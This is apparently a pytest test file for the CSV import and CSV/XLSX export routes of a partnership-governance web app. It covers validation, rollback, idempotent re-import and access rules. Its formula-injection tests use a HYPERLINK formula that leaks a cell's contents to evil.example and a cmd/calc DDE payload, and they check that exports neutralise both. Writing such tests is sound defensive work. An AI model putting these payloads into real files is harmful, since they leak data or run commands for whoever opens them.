"""CSV import (preview, commit, all-or-nothing, idempotence, bad files) and CSV/XLSX exports."""

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from governance.audit import AuditEvent
from governance.extensions import db
from governance.interactions.models import Interaction
from governance.organisations.models import Organisation
from governance.partnerships.models import Partnership, Support
from governance.rules.models import Flag
from governance.transfer import imports
from governance.transfer.imports import IMPORTERS

from .conftest import GOOD_INTERACTION

COLUMNS = IMPORTERS["interactions"].columns()
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def cell(value) -> str:
    if isinstance(value, list):
        return ";".join(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, date):
        return value.isoformat()
    return "" if value is None else str(value)


def interaction_row(partnership, number: int, **changes) -> dict:
    row = dict(GOOD_INTERACTION, partnership_id=partnership.id, external_id=f"CRM-{number}",
               title=f"Advisory board {number}")
    row.update(changes)
    return row


def csv_bytes(rows: list[dict], columns=None, encoding="utf-8") -> bytes:
    columns = columns or list(rows[0]) if rows else list(COLUMNS)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([cell(row.get(name)) for name in columns])
    return buffer.getvalue().encode(encoding)


@pytest.fixture
def advocate(make_user, sponsor, log_in):
    user = make_user("advocate", sponsor)
    log_in(user)
    return user


@pytest.fixture
def partnership(make_partnership):
    return make_partnership(agreement_signed_on=date(2024, 1, 5))


def upload(client, data: bytes, kind="interactions", filename="meetings.csv"):
    return client.post("/imports/", data={"kind": kind, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def upload_large(client, data: bytes, kind="interactions"):
    """Upload through an explicit request, so the test closes the body it spooled to disk."""
    from werkzeug.test import EnvironBuilder

    builder = EnvironBuilder(path="/imports/", method="POST", data={
        "kind": kind, "file": (io.BytesIO(data), "large.csv")})
    request = builder.get_request()
    try:
        return client.open(request)
    finally:
        request.environ["wsgi.input"].close()
        builder.close()


def digest_of(response) -> str:
    page = response.get_data(as_text=True)
    marker = "/commit"
    end = page.index(marker)
    return page[end - 64:end]


def commit(client, data: bytes, kind="interactions"):
    preview = upload(client, data, kind)
    assert preview.status_code == 200, preview.get_data(as_text=True)
    return client.post(f"/imports/{kind}/{digest_of(preview)}/commit")


# --- the template and the preview ------------------------------------------------------------


@pytest.mark.parametrize("kind", list(IMPORTERS))
def test_template_has_the_domain_columns_and_one_example_row(client, advocate, kind):
    response = client.get(f"/imports/{kind}/template.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith(f"{kind}-template.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 2
    assert tuple(rows[0]) == IMPORTERS[kind].columns()
    assert "external_id" in rows[0]
    assert rows[1][rows[0].index("external_id")]


def test_upload_page_explains_the_columns(client, advocate):
    page = client.get("/imports/").get_data(as_text=True)
    assert "external_id" in page and "YYYY-MM-DD" in page and "occurred_on" in page


def test_preview_lists_every_rows_problems_by_row_and_column(client, advocate, partnership):
    data = csv_bytes([
        interaction_row(partnership, 1),
        interaction_row(partnership, 2, format="party", occurred_on="14/03/2025"),
        interaction_row(partnership, 3, title="", patient_participants=-4),
        interaction_row(partnership, 4, external_id="CRM-1"),
    ])
    response = upload(client, data)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    report = imports.import_file("interactions", data, advocate, filename="x.csv",
                                 digest="0" * 64, commit=False)
    found = {(p.row, p.column) for p in report.problems}
    assert found == {(3, "format"), (3, "occurred_on"), (4, "title"),
                     (4, "patient_participants"), (5, "external_id")}
    assert "use YYYY-MM-DD" in page and "Row 2 already has this external_id" in page
    assert "Download every problem as CSV" in page
    assert count(Interaction) == 0 and count(Flag) == 0


def test_a_cell_reads_a_whole_number_as_a_number_and_refuses_a_fraction(advocate, partnership):
    data = csv_bytes([
        interaction_row(partnership, 1, patient_participants="+7", sponsor_staff=" 2 "),
        interaction_row(partnership, 2, patient_participants="3.7"),
        interaction_row(partnership, 3, partnership_id=f"{partnership.id}.0"),
    ])
    report = imports.import_file("interactions", data, advocate, filename="x.csv",
                                 digest="0" * 64, commit=False)
    assert {(p.row, p.column) for p in report.problems} == {
        (3, "patient_participants"), (4, "partnership_id")}
    assert all("whole number" in p.message for p in report.problems)


def test_preview_of_a_valid_file_shows_what_would_happen_and_saves_nothing(client, advocate,
                                                                           partnership):
    before = count(AuditEvent)
    response = upload(client, csv_bytes([interaction_row(partnership, n) for n in range(3)]))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Import 3 rows" in page and "CRM-2" in page
    assert count(Interaction) == 0 and count(AuditEvent) == before


def test_uploaded_file_is_kept_by_its_hash(app, client, advocate, partnership):
    from governance import storage

    data = csv_bytes([interaction_row(partnership, 1)])
    digest = digest_of(upload(client, data))
    import hashlib

    assert digest == hashlib.sha256(data).hexdigest()
    assert storage.IMPORTS.read(digest) == data
    if not storage.in_database():
        assert (Path(app.config["DATA_DIR"]) / "imports" / digest).read_bytes() == data


def test_problems_can_be_downloaded_as_csv(client, advocate, partnership):
    data = csv_bytes([interaction_row(partnership, 1, format="party"),
                      interaction_row(partnership, 2, occurred_on="")])
    upload(client, data)
    import hashlib

    digest = hashlib.sha256(data).hexdigest()
    response = client.get(f"/imports/interactions/{digest}/problems.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["row", "column", "problem"]
    assert [r[:2] for r in rows[1:]] == [["2", "format"], ["3", "occurred_on"]]


# --- commit ---------------------------------------------------------------------------------


def test_commit_imports_every_row_with_flags_and_audit(client, advocate, partnership):
    data = csv_bytes([interaction_row(partnership, 1),
                      interaction_row(partnership, 2, selection_method="ad_hoc")])
    response = commit(client, data)
    assert response.status_code == 303
    assert response.headers["Location"].endswith("/interactions/")
    assert count(Interaction) == 2
    ad_hoc = db.session.scalar(select(Interaction).where(Interaction.external_id == "CRM-2"))
    assert ad_hoc.created_by_id == advocate.id and ad_hoc.accommodations == [
        "step_free_access", "travel_support"]
    rules = set(db.session.scalars(select(Flag.rule_id).where(
        Flag.interaction_id == ad_hoc.id)))
    assert "WHO-ADHOC-SELECTION" in rules
    created = db.session.scalars(select(AuditEvent).where(
        AuditEvent.entity == "interaction", AuditEvent.action == "create")).all()
    assert len(created) == 2
    assert all(e.reason.startswith("CSV import of meetings.csv") and
               e.actor_id == advocate.id for e in created)
    interaction_flags = select(Flag.id).where(Flag.interaction_id.is_not(None))
    flag_events = db.session.scalars(select(AuditEvent).where(
        AuditEvent.entity == "flag", AuditEvent.entity_id.in_(interaction_flags))).all()
    assert flag_events and all(e.actor_id == advocate.id and e.reason.startswith(
        "Evaluated under policy") for e in flag_events)  # as for an interaction in a form
    from governance.audit import verify_chain

    assert verify_chain().intact


def test_imported_rows_are_audited_as_a_form_would_audit_them(client, advocate, partnership):
    import json

    from governance.interactions.services import log_interaction

    commit(client, csv_bytes([interaction_row(partnership, 1)]))
    by_form = log_interaction(interaction_row(partnership, 2), advocate)
    db.session.commit()

    def changes(external_id):
        record = db.session.scalar(select(Interaction).where(
            Interaction.external_id == external_id))
        event = db.session.scalar(select(AuditEvent).where(
            AuditEvent.entity == "interaction", AuditEvent.entity_id == record.id))
        values = json.loads(event.changes)
        for key in ("id", "external_id", "title"):
            values.pop(key)
        return event.actor_id, values

    assert by_form.external_id == "CRM-2"
    assert changes("CRM-1") == changes("CRM-2")


def test_any_bad_row_means_nothing_is_imported(client, advocate, partnership, monkeypatch):
    monkeypatch.setattr(imports, "BATCH", 2)  # earlier batches are written, then rolled back
    rows = [interaction_row(partnership, n) for n in range(5)]
    rows[4]["format"] = "party"
    data = csv_bytes(rows)
    upload(client, data)
    import hashlib

    before = (count(AuditEvent), count(Flag))
    response = client.post(f"/imports/interactions/{hashlib.sha256(data).hexdigest()}/commit")
    assert response.status_code == 422
    assert "nothing was saved" in response.get_data(as_text=True)
    assert count(Interaction) == 0
    assert (count(AuditEvent), count(Flag)) == before


def test_reimporting_the_same_file_creates_no_duplicates(client, advocate, partnership):
    data = csv_bytes([interaction_row(partnership, n) for n in range(3)])
    assert commit(client, data).status_code == 303
    events = count(AuditEvent)
    response = commit(client, data)
    assert response.status_code == 303
    follow = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "0 created, 0 updated, 3 unchanged" in follow
    assert count(Interaction) == 3 and count(AuditEvent) == events


def test_reimport_with_a_changed_value_updates_that_record_only(client, advocate, partnership):
    rows = [interaction_row(partnership, n) for n in range(3)]
    commit(client, csv_bytes(rows))
    rows[1]["title"] = "Renamed advisory board"
    rows[1]["purpose"] = ""
    report = imports.import_file("interactions", csv_bytes(rows), advocate, filename="v2.csv",
                                 digest="a" * 64, commit=True)
    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    changed = db.session.scalar(select(Interaction).where(Interaction.external_id == "CRM-1"))
    assert changed.title == "Renamed advisory board" and changed.purpose is None
    event = db.session.scalars(select(AuditEvent).where(
        AuditEvent.entity == "interaction", AuditEvent.entity_id == changed.id)
        .order_by(AuditEvent.id.desc())).first()
    assert event.action == "update" and event.reason.startswith("CSV import of v2.csv")
    assert "WHY-VAGUE" in set(db.session.scalars(select(Flag.rule_id).where(
        Flag.interaction_id == changed.id, Flag.state == "open")))


def test_a_column_left_out_keeps_existing_values(client, advocate, partnership):
    commit(client, csv_bytes([interaction_row(partnership, 1)]))
    short = csv_bytes([{"external_id": "CRM-1", "title": "Short file title",
                        "occurred_on": "2025-03-14", "format": "advisory_board"}])
    report = imports.import_file("interactions", short, advocate, filename="s.csv",
                                 digest="b" * 64, commit=True)
    assert report.updated == 1
    record = db.session.scalar(select(Interaction).where(Interaction.external_id == "CRM-1"))
    assert record.title == "Short file title" and record.summary == GOOD_INTERACTION["summary"]


def test_commit_of_an_unknown_upload_is_404(client, advocate):
    assert client.post(f"/imports/interactions/{'c' * 64}/commit").status_code == 404
    assert client.post("/imports/interactions/not-a-hash/commit").status_code == 404
    assert client.get(f"/imports/people/{'c' * 64}").status_code == 404


def test_partners_and_auditors_cannot_import(client, make_user, patient_group, log_in):
    for user in (make_user("partner", patient_group), make_user("auditor")):
        log_in(user)
        assert client.get("/imports/").status_code == 403
        assert upload(client, b"title\n").status_code == 403


def test_organisations_partnerships_and_support_import_in_turn(client, advocate, sponsor):
    organisations = [
        {"name": "Cystic Fibrosis Families", "kind": "patient_group", "country": "gb",
         "disease_areas": ["cystic fibrosis"], "external_id": "ORG-1"},
        {"name": "Bridgewater Facilitation", "kind": "other", "country": "GB",
         "external_id": "ORG-2"},
    ]
    assert commit(client, csv_bytes(organisations), "organisations").status_code == 303
    group = db.session.scalar(select(Organisation).where(Organisation.external_id == "ORG-1"))
    assert group.country == "GB" and group.disease_areas == ["cystic fibrosis"]

    partnerships = [{"title": "Registry", "sponsor_id": sponsor.id, "patient_group_id": group.id,
                     "kind": "research_investment", "status": "active",
                     "started_on": "2025-01-01", "external_id": "PART-1"}]
    assert commit(client, csv_bytes(partnerships), "partnerships").status_code == 303
    registry = db.session.scalar(select(Partnership).where(Partnership.external_id == "PART-1"))
    assert "PART-IP-UNSETTLED" in set(db.session.scalars(select(Flag.rule_id).where(
        Flag.partnership_id == registry.id)))

    supports = [{"partnership_id": registry.id, "recipient_id": group.id,
                 "paid_on": "2025-02-01", "kind": "grant", "amount": "1250.5",
                 "currency": "GBP", "description": "Registry set-up grant",
                 "external_id": "SUP-1"}]
    assert commit(client, csv_bytes(supports), "supports").status_code == 303
    support = db.session.scalar(select(Support).where(Support.external_id == "SUP-1"))
    assert str(support.amount) == "1250.50"
    assert "AGR-MISSING" in set(db.session.scalars(select(Flag.rule_id).where(
        Flag.partnership_id == registry.id, Flag.state == "open")))
    again = commit(client, csv_bytes(supports), "supports")
    assert "0 created, 0 updated, 1 unchanged" in client.get(
        again.headers["Location"]).get_data(as_text=True)


def test_a_support_row_the_service_refuses_is_reported_on_its_field(client, advocate,
                                                                    partnership, sponsor):
    rows = [{"partnership_id": partnership.id, "recipient_id": sponsor.id,
             "paid_on": "2025-02-01", "kind": "grant", "amount": "", "currency": "pounds",
             "description": "Grant", "external_id": "SUP-9"}]
    response = upload(client, csv_bytes(rows), "supports")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "currency" in page and "amount" in page
    assert count(Support) == 0


@pytest.fixture
def agreements_and_lines(advocate, partnership, make_partnership):
    """Three agreements on two partnerships of one patient group (one signed after lines were
    paid, one with a low ceiling and no certification, one with a short term) and lines under
    them, two naming no agreement: the rows of a support CSV."""
    from datetime import datetime

    from governance.agreements.models import Agreement

    other = make_partnership("Helpline partnership")
    certified = {"certified_by_id": advocate.id, "certified_at": datetime(2024, 12, 20),
                 "certification_meaning": "certified"}
    late, low, short = (
        Agreement(partnership_id=partnership.id, kind="grant", objective="Registry grant",
                  starts_on=date(2025, 1, 1), ends_on=date(2025, 12, 31),
                  amount="100000.00", currency="GBP", signed_on=date(2025, 3, 1), **certified),
        Agreement(partnership_id=partnership.id, kind="grant", objective="Conference grant",
                  starts_on=date(2025, 1, 1), ends_on=date(2025, 12, 31), amount="1000.00",
                  currency="GBP", signed_on=date(2024, 12, 1)),
        Agreement(partnership_id=other.id, kind="grant", objective="Helpline grant",
                  starts_on=date(2025, 1, 1), ends_on=date(2025, 6, 30), amount="50000.00",
                  currency="GBP", signed_on=date(2024, 12, 1), **certified))
    db.session.add_all([late, low, short])
    db.session.commit()
    group = partnership.patient_group_id

    def line(number, where, agreement, paid_on, amount):
        return {"partnership_id": where.id, "recipient_id": group, "paid_on": paid_on,
                "kind": "grant", "amount": amount, "currency": "GBP",
                "description": f"Support line {number}", "external_id": f"SUP-{number}",
                "agreement_id": agreement.id if agreement else None}

    return [line(1, partnership, late, "2025-02-01", "2500.00"),
            line(2, partnership, late, "2025-04-01", "4000.00"),
            line(3, partnership, low, "2025-02-10", "600.00"),
            line(4, partnership, low, "2025-03-10", "700.00"),
            line(5, partnership, None, "2025-05-01", "300.00"),
            line(6, other, short, "2025-03-01", "1200.00"),
            line(7, other, short, "2025-09-01", "1800.00"),
            line(8, other, None, "2025-10-01", "90.00")]


def open_flags_and_line_events() -> tuple[list, list]:
    """The open flags and the support lines' audit events, lines named by external_id (the
    two paths number the lines differently on PostgreSQL)."""
    import re

    external = dict(db.session.execute(select(Support.id, Support.external_id)).all())

    def named(message: str) -> str:
        return re.sub(r"line (\d+)", lambda m: f"line {external[int(m.group(1))]}", message)

    flags = sorted((flag.rule_id, flag.partnership_id, flag.agreement_id, flag.severity,
                    named(flag.message)) for flag in db.session.scalars(
        select(Flag).where(Flag.state == "open", Flag.voided_at.is_(None))))
    events = []
    for event in db.session.scalars(select(AuditEvent).where(AuditEvent.entity == "support")):
        changes = event.change_set
        assert changes.pop("id") == [None, event.entity_id]
        events.append((external[event.entity_id], event.action, event.actor_id, changes))
    return flags, sorted(events, key=lambda item: item[0])


def test_bulk_support_import_raises_the_flags_and_audit_of_one_line_at_a_time(
        advocate, agreements_and_lines):
    from governance.audit import set_actor, verify_chain
    from governance.partnerships.services import record_support

    set_actor(advocate)  # as a request of theirs does
    for values in agreements_and_lines:
        record_support(values, advocate)
    one_by_one = open_flags_and_line_events()
    db.session.rollback()
    assert count(Support) == 0

    report = imports.import_file("supports", csv_bytes(agreements_and_lines), advocate,
                                 filename="lines.csv", digest="0" * 64, commit=True)
    assert report.committed and report.created == 8
    in_bulk = open_flags_and_line_events()
    assert in_bulk == one_by_one
    assert {"AGR-PAID-BEFORE-SIGNED", "AGR-OVER-AMOUNT", "AGR-UNCERTIFIED", "AGR-OUTSIDE-TERM",
            "AGR-MISSING"} <= {flag[0] for flag in in_bulk[0]}
    assert len(in_bulk[1]) == 8
    assert verify_chain().intact


def test_a_bad_line_in_a_bulk_support_file_names_its_row_and_field_and_saves_nothing(
        client, advocate, partnership, agreements_and_lines, monkeypatch):
    monkeypatch.setattr(imports, "BATCH", 3)  # the first batch is written, then rolled back
    rows = [dict(values) for values in agreements_and_lines]
    rows[3]["agreement_id"] = rows[5]["agreement_id"]  # another partnership's agreement
    rows[6]["recipient_id"] = partnership.sponsor_id  # the sponsor gives, it does not receive
    data = csv_bytes(rows)
    before = (count(AuditEvent), count(Flag))

    preview = upload(client, data, "supports")
    assert preview.status_code == 422
    assert "This agreement belongs to another partnership" in preview.get_data(as_text=True)
    report = imports.import_file("supports", data, advocate, filename="lines.csv",
                                 digest="0" * 64, commit=True)
    assert not report.committed
    assert {(p.row, p.column) for p in report.problems} == {(5, "agreement_id"),
                                                           (8, "recipient_id")}
    assert count(Support) == 0
    assert (count(AuditEvent), count(Flag)) == before


# --- files that cannot be read --------------------------------------------------------------


def test_wrong_header_names_the_unknown_and_missing_columns(client, advocate, partnership):
    data = b"titel,format,external_id,colour\nA,survey,X-1,blue\n"
    response = upload(client, data)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Unknown column(s): titel, colour." in page
    assert "Missing column(s): title, occurred_on." in page


def test_latin1_file_is_refused_naming_the_encoding_and_line(client, advocate, partnership):
    rows = [interaction_row(partnership, 1), interaction_row(partnership, 2, title="Café")]
    response = upload(client, csv_bytes(rows, encoding="latin-1"))
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "not UTF-8" in page and "line 3" in page and "0xE9" in page and "Latin-1" in page
    assert count(Interaction) == 0


def test_utf8_with_byte_order_mark_is_read(client, advocate, partnership):
    data = "\ufeff".encode() + csv_bytes([interaction_row(partnership, 1, title="Café")])
    assert upload(client, data).status_code == 200


def test_a_workbook_uploaded_instead_of_csv_gets_a_clear_message(client, advocate):
    page = upload(client, b"PK\x03\x04rest-of-a-zip").get_data(as_text=True)
    assert "XLSX" in page and "CSV UTF-8" in page


def test_an_empty_file_is_refused(client, advocate):
    assert "The file is empty" in upload(client, b"").get_data(as_text=True)
    only_header = ",".join(COLUMNS).encode() + b"\n"
    assert "no rows" in upload(client, only_header).get_data(as_text=True)


@pytest.mark.parametrize("app_config", [{"IMPORT_MAX_BYTES": 4096}])
def test_a_file_over_the_import_limit_gets_413(client, advocate, partnership, app_config):
    data = csv_bytes([interaction_row(partnership, n) for n in range(30)])
    assert len(data) > 4096
    response = upload(client, data)
    assert response.status_code == 413
    assert "larger than the import limit of 4 KB" in response.get_data(as_text=True)
    assert count(Interaction) == 0


def test_a_55_mb_upload_gets_a_clear_error_not_a_crash(client, advocate):
    data = b"title,occurred_on,format,external_id\n" + b"x" * (55 * 1024 * 1024)
    response = upload_large(client, data)
    assert response.status_code == 413
    assert "larger than the import limit of 50 MB" in response.get_data(as_text=True)


@pytest.mark.parametrize("app_config", [{"MAX_CONTENT_LENGTH": 64 * 1024,
                                         "IMPORT_MAX_BYTES": 32 * 1024}])
def test_a_body_over_the_request_limit_gets_a_clear_413(client, advocate, app_config):
    response = upload_large(client, b"x" * (100 * 1024))
    assert response.status_code == 413
    assert "larger than the 64 KB any request may carry" in response.get_data(as_text=True)


# --- formula injection and exports ----------------------------------------------------------


def test_formula_in_a_cell_is_kept_as_text_and_neutralised_in_exports(client, advocate,
                                                                      partnership):
    data = csv_bytes([interaction_row(partnership, 1, title=EVIL, summary="+cmd|' /C calc'!A0")])
    preview = upload(client, data)
    assert "Starts like a spreadsheet formula" in preview.get_data(as_text=True)
    commit(client, data)
    record = db.session.scalar(select(Interaction))
    assert record.title == EVIL  # stored as typed: it is data, never run

    exported = client.get("/exports/interactions.csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["title"] == "'" + EVIL
    assert rows[0]["summary"].startswith("'+cmd")

    workbook = load_workbook(io.BytesIO(client.get("/exports/interactions.xlsx").data))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert title.data_type == "s" and title.value == "'" + EVIL


def test_exported_interactions_round_trip_through_the_import(client, advocate, partnership):
    data = csv_bytes([interaction_row(partnership, 1, title=EVIL)])
    commit(client, data)
    exported = client.get("/exports/interactions.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    again = csv_bytes([{name: rows[0][name] for name in COLUMNS}], list(COLUMNS))
    report = imports.import_file("interactions", again, advocate, filename="again.csv",
                                 digest="d" * 64, commit=True)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)


def test_interaction_export_is_filtered_like_the_list_and_carries_flags(
        client, compliance_user, log_in, make_interaction, partnership, make_partnership):
    other = make_partnership("Other partnership")
    make_interaction(title="In scope", partnership_id=partnership.id, selection_method="ad_hoc")
    make_interaction(title="Elsewhere", partnership_id=other.id)
    log_in(compliance_user)
    response = client.get(f"/exports/interactions.csv?partnership_id={partnership.id}")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [row["title"] for row in rows] == ["In scope"]
    assert "WHO-ADHOC-SELECTION (open)" in rows[0]["flags"]
    assert int(rows[0]["open_flags"]) >= 1
    assert rows[0]["occurred_on"] == "2025-03-14"
    assert rows[0]["stages_represented"] == "early;intermediate;late"


def test_partners_export_only_their_partnerships_records(client, make_user, patient_group,
                                                         other_partner_setup, log_in):
    partner = make_user("partner", patient_group)
    log_in(partner)
    rows = list(csv.DictReader(io.StringIO(client.get("/exports/interactions.csv").get_data(
        as_text=True).lstrip("\ufeff"))))
    assert [row["title"] for row in rows] == ["Ours"]
    assert client.get("/exports/audit.csv").status_code == 403


@pytest.fixture
def other_partner_setup(make_interaction, partnership, make_org, sponsor, make_partnership):
    stranger = make_org("Sickle Cell Collective", "patient_group")
    theirs = make_partnership("Their partnership", patient_group_id=stranger.id)
    make_interaction(title="Ours", partnership_id=partnership.id)
    make_interaction(title="Theirs", partnership_id=theirs.id)


def test_partnership_support_and_audit_exports(client, compliance_user, log_in, partnership,
                                               patient_group):
    db.session.add(Support(partnership_id=partnership.id, recipient_id=patient_group.id,
                           paid_on=date(2025, 2, 1), kind="grant", amount="1250.00",
                           currency="GBP", description="=1+1 grant"))
    db.session.commit()
    log_in(compliance_user)
    partnerships = client.get("/exports/partnerships.xlsx?status=active")
    sheet = load_workbook(io.BytesIO(partnerships.data)).active
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("title") + 1).value == partnership.title
    assert "sponsor_name" in header and "flags" in header
    assert client.get("/exports/partnerships.csv?status=closed").get_data(
        as_text=True).count("\n") == 1  # the header only

    supports = client.get("/exports/supports.csv?year=2025").get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(supports.lstrip("\ufeff"))))
    assert row["amount"] == "1250.00" and row["currency"] == "GBP"
    assert row["description"] == "'=1+1 grant"

    audit = client.get("/exports/audit.xlsx?entity=support")
    sheet = load_workbook(io.BytesIO(audit.data)).active
    entities = {row[4] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert entities == {"support"}
    csv_audit = client.get("/exports/audit.csv").get_data(as_text=True)
    assert "occurred_at_utc" in csv_audit.splitlines()[0]


def test_list_pages_link_to_their_exports(client, compliance_user, log_in):
    log_in(compliance_user)
    for page, link in (("/interactions/?format=survey", "/exports/interactions.xlsx?format=survey"),
                       ("/partnerships/", "/exports/partnerships.csv"),
                       ("/partnerships/supports", "/exports/supports.xlsx"),
                       ("/audit/", "/exports/audit.xlsx")):
        assert link in client.get(page).get_data(as_text=True), page
